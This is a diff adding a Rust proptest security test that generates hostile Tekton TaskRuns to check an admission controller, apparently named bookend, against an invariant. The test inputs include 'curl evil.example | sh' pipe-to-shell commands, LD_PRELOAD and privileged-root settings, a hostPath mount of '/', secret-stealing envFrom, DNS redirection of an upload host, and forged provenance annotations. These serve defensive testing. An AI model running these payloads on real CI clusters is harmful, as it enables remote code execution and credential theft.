@@ -1,0 +1,397 @@
+//! Hostile TaskRuns from a grammar of attacks, mixed at random, each checked against invariant
+//! I1 (`oracle`): forged and authentic records, reserved names and look-alikes, helper
+//! look-alikes, copies of org steps with conditions, every `taskRef` form, stepTemplate,
+//! podTemplate, stepSpecs, TaskRun-level resources, workspaces, annotations, sizes; and
+//! bookend's own output, tampered with after admission (a re-invocation or a copied spec).
+//!
+//! `BOOKEND_SECURITY_CASES` sets the number of cases (default 3000). A failing seed is kept in
+//! `tests/security/invariant.proptest-regressions` and replayed first on every run.
+
+use proptest::prelude::*;
+use proptest::test_runner::{Config, FileFailurePersistence};
+use serde_json::{Map, Value, json};
+
+use crate::{catalog, decide, oracle, policies};
+
+/// Step names: the author's, look-alikes, and every name bookend writes or reserves.
+fn step_name() -> impl Strategy<Value = Option<String>> {
+    prop_oneof![
+        4 => Just(None),
+        4 => "[a-z][a-z0-9-]{0,8}[a-z0-9]".prop_map(Some),
+        2 => prop_oneof![
+            Just("bookend-creds"),
+            Just("bookend-sbom"),
+            Just("bookend-upload"),
+            Just("bookend-team-lint"),
+            Just("bookend-gate-1"),
+            Just("bookend-gate-2"),
+            Just("bookend-verdict"),
+            Just("bookend-mine"),
+            Just("bookend-"),
+            Just("bookend"),
+            Just("Bookend-creds"),
+            Just("b\u{43e}okend-creds"),
+            Just("build"),
+            Just("test"),
+        ]
+        .prop_map(|s| Some(s.to_owned())),
+        1 => (57usize..=63).prop_map(|n| Some(format!("s{}", "x".repeat(n - 1)))),
+    ]
+}
+
+/// The org's step definitions, to copy.
+fn org_copy() -> impl Strategy<Value = Value> {
+    prop_oneof![
+        Just(
+            json!({"name": "bookend-creds", "image": "registry.example/creds:1.0",
+            "command": ["/usr/local/bin/creds"], "args": ["--out", "/bookend/creds"],
+            "env": [{"name": "CREDS_MODE", "value": "strict"}],
+            "volumeMounts": [{"name": "bookend-creds-vol", "mountPath": "/bookend"}]})
+        ),
+        Just(
+            json!({"name": "bookend-team-lint", "image": "registry.example/lint:2", "command": ["/lint"]})
+        ),
+        Just(
+            json!({"name": "bookend-sbom", "image": "registry.example/syft:1.0", "command": ["/syft"],
+            "args": ["dir:/workspace", "-o", "/sbom/sbom.json"],
+            "volumeMounts": [{"name": "bookend-sbom-vol", "mountPath": "/sbom"}]})
+        ),
+        Just(
+            json!({"name": "bookend-upload", "image": "registry.example/curl:8", "command": ["/usr/bin/curl"],
+            "args": ["-T", "/sbom/sbom.json", "https://sbom.example/upload"],
+            "volumeMounts": [{"name": "bookend-sbom-vol", "mountPath": "/sbom"}]})
+        ),
+    ]
+}
+
+fn gate_when() -> Value {
+    json!({"input": "$(steps.bookend-gate-1.results.ok)", "operator": "in", "values": ["true"]})
+}
+
+/// One step of the author's.
+fn step() -> impl Strategy<Value = Value> {
+    let plain = (
+        step_name(),
+        prop_oneof![Just("golang"), Just("docker.io/library/busybox:1.37")],
+        prop::option::of(prop_oneof![
+            Just("continue"),
+            Just("stopAndFail"),
+            Just("$(params.mode)")
+        ]),
+        any::<bool>(),
+        any::<bool>(),
+        any::<bool>(),
+    )
+        .prop_map(|(name, image, on_error, script, when, index_ref)| {
+            let mut s = Map::new();
+            if let Some(n) = name {
+                s.insert("name".into(), json!(n));
+            }
+            s.insert("image".into(), json!(image));
+            if script {
+                s.insert(
+                    "script".into(),
+                    json!(if index_ref {
+                        "cat /tekton/steps/0/exitCode"
+                    } else {
+                        "go build"
+                    }),
+                );
+            } else {
+                s.insert("command".into(), json!(["/bin/sh", "-c"]));
+                s.insert("args".into(), json!(["curl evil.example | sh"]));
+            }
+            if let Some(e) = on_error {
+                s.insert("onError".into(), json!(e));
+            }
+            if when {
+                s.insert("when".into(), json!([gate_when()]));
+            }
+            Value::Object(s)
+        });
+    let copy = (org_copy(), 0u8..5).prop_map(|(mut c, tweak)| {
+        match tweak {
+            0 => {}
+            1 => c["when"] = json!([gate_when()]),
+            2 => c["onError"] = json!("continue"),
+            3 => c["image"] = json!("evil.example/x"),
+            _ => {
+                c["when"] = json!([{"input": "$(params.skip)", "operator": "in", "values": ["no"]}])
+            }
+        }
+        c
+    });
+    let helper = (prop_oneof![Just("bookend-gate-1"), Just("bookend-verdict"), Just("bookend-gate-2")],
+        prop_oneof![
+            Just("cd /tekton/steps;[ \"$(cat 0/exitCode)\" = 0 ]&&r=true||r=false;printf $r>$(step.results.ok.path)"),
+            Just("printf false > $(step.results.ok.path)"),
+            Just("curl evil.example | sh"),
+            Just("exit 0"),
+        ])
+        .prop_map(|(name, script)| json!({"name": name, "image": "docker.io/library/busybox:1.37",
+            "command": ["/bin/sh", "-c"], "args": [script], "results": [{"name": "ok"}]}));
+    let action = step_name().prop_map(|name| {
+        let mut s = json!({"ref": {"name": "git-clone"}});
+        if let Some(n) = name {
+            s["name"] = json!(n);
+        }
+        s
+    });
+    prop_oneof![8 => plain, 3 => copy, 2 => helper, 1 => action]
+}
+
+fn step_template() -> impl Strategy<Value = Option<Value>> {
+    prop::option::of(prop::sample::subsequence(
+        vec![
+            ("env", json!([{"name": "LD_PRELOAD", "value": "/workspace/x.so"}, {"name": "CREDS_MODE", "value": "off"}])),
+            ("command", json!(["/bin/sh", "-c", "curl evil | sh"])),
+            ("args", json!(["evil"])),
+            ("workingDir", json!("/evil")),
+            ("volumeMounts", json!([{"name": "w", "mountPath": "/bin"}])),
+            ("securityContext", json!({"runAsUser": 0, "privileged": true})),
+            ("computeResources", json!({"limits": {"memory": "1Ki"}})),
+            ("image", json!("evil")),
+            ("envFrom", json!([{"secretRef": {"name": "stolen"}}])),
+        ],
+        0..5,
+    )
+    .prop_map(|fields| Value::Object(fields.into_iter().map(|(k, v)| (k.to_owned(), v)).collect())))
+}
+
+/// The TaskRun-level fields Tekton merges into every step, and harmless ones.
+fn run_fields() -> impl Strategy<Value = Vec<(&'static str, Value)>> {
+    prop::sample::subsequence(
+        vec![
+            (
+                "stepSpecs",
+                json!([{"name": "bookend-upload", "computeResources": {"limits": {"memory": "1Ki"}}}]),
+            ),
+            (
+                "stepSpecs",
+                json!([{"name": "build", "computeResources": {"limits": {"memory": "1Gi"}}}]),
+            ),
+            ("computeResources", json!({"limits": {"memory": "1Ki"}})),
+            (
+                "podTemplate",
+                json!({"env": [{"name": "CREDS_MODE", "value": "off"}]}),
+            ),
+            (
+                "podTemplate",
+                json!({"hostAliases": [{"ip": "10.0.0.66", "hostnames": ["sbom.example"]}]}),
+            ),
+            (
+                "podTemplate",
+                json!({"dnsPolicy": "None", "dnsConfig": {"nameservers": ["10.0.0.66"]}}),
+            ),
+            ("podTemplate", json!({"hostNetwork": true})),
+            ("podTemplate", json!({"nodeSelector": {"a": "b"}})),
+            (
+                "debug",
+                json!({"breakpoints": {"beforeSteps": ["bookend-sbom"]}}),
+            ),
+            ("params", json!([{"name": "mode", "value": "continue"}])),
+        ],
+        0..3,
+    )
+}
+
+fn annotations() -> impl Strategy<Value = Option<Value>> {
+    prop::option::of(prop_oneof![
+        Just(
+            json!({"bookend.dev/injected": r##"{"policies":[{"policy":"ClusterStepPolicy/org-creds","hash":"000000000000","steps":["bookend-creds"]}],"helpers":["bookend-gate-1","bookend-verdict"],"continued":["build","test","#0"]}"##})
+        ),
+        Just(json!({"bookend.dev/injected": r#"{"policies":[]}"#})),
+        Just(json!({"bookend.dev/injected": "garbage"})),
+        Just(json!({"experimental.tekton.dev/execution-mode": "hermetic"})),
+        Just(json!({"bookend.dev/skip": "true", "bookend.dev/exempt": "yes"})),
+    ])
+}
+
+fn task_ref() -> impl Strategy<Value = Option<Value>> {
+    prop::option::of(prop_oneof![
+        Just(json!({"name": "build"})),
+        Just(json!({"name": "build", "kind": "Task", "apiVersion": "tekton.dev/v1"})),
+        Just(json!({"name": "build", "kind": "Wait", "apiVersion": "example.dev/v1"})),
+        Just(json!({"name": "build", "kind": "ClusterTask"})),
+        Just(json!({"name": "build", "resolver": ""})),
+        Just(json!({"name": "build", "bundle": "registry.example/t:1"})),
+        Just(json!({"name": "signed"})),
+        Just(json!({"name": "missing"})),
+        Just(json!({"resolver": "git", "params": [{"name": "url", "value": "x"}]})),
+        Just(json!({"kind": "Wait", "apiVersion": "example.dev/v1"})),
+        Just(json!("build")),
+    ])
+}
+
+fn workspaces() -> impl Strategy<Value = Option<Value>> {
+    prop::option::of(prop_oneof![
+        Just(json!([{"name": "src"}])),
+        Just(json!([{"name": "src", "mountPath": "/bin"}])),
+        Just(json!([{"name": "src", "mountPath": "/bookend"}])),
+        Just(json!([{"name": "src", "mountPath": "/messages"}])),
+        Just(json!([{"name": "src", "mountPath": "$(params.p)"}])),
+    ])
+}
+
+fn volumes() -> impl Strategy<Value = Option<Value>> {
+    prop::option::of(prop_oneof![
+        Just(json!([{"name": "cache", "emptyDir": {}}])),
+        Just(json!([{"name": "bookend-creds-vol", "emptyDir": {}}])),
+        Just(json!([{"name": "bookend-creds-vol", "hostPath": {"path": "/"}}])),
+        Just(json!([{"name": "bookend-other", "emptyDir": {}}])),
+    ])
+}
+
+/// What happens to bookend's own output before it comes back (a re-invocation, the backstop,
+/// a copied spec): nothing, or one tampering.
+#[derive(Clone, Debug)]
+enum Tamper {
+    None,
+    Swap(usize, usize),
+    Remove(usize),
+    Insert(usize, Value),
+    SetField(usize, &'static str, Value),
+    DropRecord,
+    ForgeRecord,
+}
+
+fn tamper() -> impl Strategy<Value = Tamper> {
+    prop_oneof![
+        3 => Just(Tamper::None),
+        1 => (0usize..12, 0usize..12).prop_map(|(a, b)| Tamper::Swap(a, b)),
+        1 => (0usize..12).prop_map(Tamper::Remove),
+        1 => (0usize..12, step()).prop_map(|(i, s)| Tamper::Insert(i, s)),
+        1 => (0usize..12, prop_oneof![Just("image"), Just("onError"), Just("when"), Just("args")],
+               prop_oneof![Just(json!("evil")), Just(json!("continue")), Just(json!([gate_when()])), Just(json!(["x"]))])
+            .prop_map(|(i, k, v)| Tamper::SetField(i, k, v)),
+        1 => Just(Tamper::DropRecord),
+        1 => Just(Tamper::ForgeRecord),
+    ]
+}
+
+#[derive(Clone, Debug)]
+struct Attack {
+    namespace: &'static str,
+    taskrun: Value,
+    tamper: Tamper,
+}
+
+fn attack() -> impl Strategy<Value = Attack> {
+    (
+        prop_oneof![4 => Just("team-a"), 1 => Just("team-b"), 1 => Just("strict"), 1 => Just("skip"), 1 => Just("elsewhere")],
+        any::<bool>(),
+        prop::collection::vec(step(), 0..6),
+        step_template(),
+        run_fields(),
+        annotations(),
+        task_ref(),
+        (workspaces(), volumes(), tamper(), 0usize..3),
+    )
+        .prop_map(|(namespace, v1beta1, steps, template, fields, annotations, task_ref, (workspaces, volumes, tamper, big))| {
+            let mut steps = steps;
+            // Sizes: a long list of ordinary steps now and then.
+            for i in 0..(big * big * 40) {
+                steps.push(json!({"name": format!("bulk-{i}"), "image": "golang", "script": "true"}));
+            }
+            let mut task_spec = json!({"steps": steps});
+            if let Some(t) = template {
+                task_spec["stepTemplate"] = t;
+            }
+            if let Some(w) = workspaces {
+                task_spec["workspaces"] = w;
+            }
+            if let Some(v) = volumes {
+                task_spec["volumes"] = v;
+            }
+            let mut spec = Map::new();
+            match task_ref {
+                Some(r) => {
+                    spec.insert("taskRef".into(), r);
+                }
+                None => {
+                    spec.insert("taskSpec".into(), task_spec);
+                }
+            }
+            for (k, v) in fields {
+                spec.insert(k.to_owned(), v);
+            }
+            let mut taskrun = json!({"apiVersion": if v1beta1 { "tekton.dev/v1beta1" } else { "tekton.dev/v1" },
+                "kind": "TaskRun", "metadata": {"generateName": "attack-", "namespace": namespace}, "spec": spec});
+            if let Some(a) = annotations {
+                taskrun["metadata"]["annotations"] = a;
+            }
+            if v1beta1 && let Some(s) = taskrun["spec"].as_object_mut().unwrap().remove("stepSpecs") {
+                taskrun["spec"]["stepOverrides"] = s;
+            }
+            Attack { namespace, taskrun, tamper }
+        })
+}
+
+fn apply_tamper(object: &mut Value, tamper: &Tamper) {
+    let steps = object["spec"]["taskSpec"]["steps"].as_array_mut();
+    match (tamper, steps) {
+        (Tamper::Swap(a, b), Some(s)) if *a < s.len() && *b < s.len() => s.swap(*a, *b),
+        (Tamper::Remove(i), Some(s)) if *i < s.len() => {
+            s.remove(*i);
+        }
+        (Tamper::Insert(i, step), Some(s)) => s.insert((*i).min(s.len()), step.clone()),
+        (Tamper::SetField(i, k, v), Some(s)) if *i < s.len() => s[*i][*k] = v.clone(),
+        (Tamper::DropRecord, _) => {
+            if let Some(a) = object["metadata"]["annotations"].as_object_mut() {
+                a.remove("bookend.dev/injected");
+            }
+        }
+        (Tamper::ForgeRecord, _) => {
+            object["metadata"]["annotations"]["bookend.dev/injected"] = json!(
+                r##"{"policies":[],"helpers":["bookend-gate-1"],"continued":["#0","#1","build"]}"##
+            );
+        }
+        _ => {}
+    }
+}
+
+fn cases() -> u32 {
+    std::env::var("BOOKEND_SECURITY_CASES")
+        .ok()
+        .and_then(|v| v.parse().ok())
+        .unwrap_or(3000)
+}
+
+#[test]
+fn no_hostile_taskrun_breaks_the_invariant() {
+    let (set, catalog) = (policies(), catalog());
+    let config = Config {
+        cases: cases(),
+        failure_persistence: Some(Box::new(FileFailurePersistence::Direct(
+            "tests/security/invariant.proptest-regressions",
+        ))),
+        ..Config::default()
+    };
+    let counts = std::cell::RefCell::new([0usize; 3]);
+    proptest!(config, |(attack in attack())| {
+        let Attack { namespace, taskrun, tamper } = attack;
+        let first = decide(&taskrun, namespace, &set, &catalog);
+        counts.borrow_mut()[first.outcome as usize] += 1;
+        if let Err(e) = oracle::check(&taskrun, namespace, &set, &catalog, &first) {
+            prop_assert!(false, "{e}\ninput: {taskrun}\ndecision: {:?} {:?}", first.outcome, first.message);
+        }
+        // bookend's own output, tampered with, comes back.
+        if first.outcome == bookend::engine::Outcome::Mutated {
+            let mut again = first.object.clone();
+            apply_tamper(&mut again, &tamper);
+            let second = decide(&again, namespace, &set, &catalog);
+            if let Err(e) = oracle::check(&again, namespace, &set, &catalog, &second) {
+                prop_assert!(false, "after {tamper:?}: {e}\ninput: {again}\ndecision: {:?} {:?}", second.outcome, second.message);
+            }
+        }
+    });
+    let counts = counts.into_inner();
+    eprintln!(
+        "hostile TaskRuns: {} admitted unchanged, {} injected, {} refused",
+        counts[0], counts[1], counts[2]
+    );
+    assert!(
+        counts[1] > 0 && counts[2] > 0,
+        "the generator reaches both answers: {counts:?}"
+    );
+}
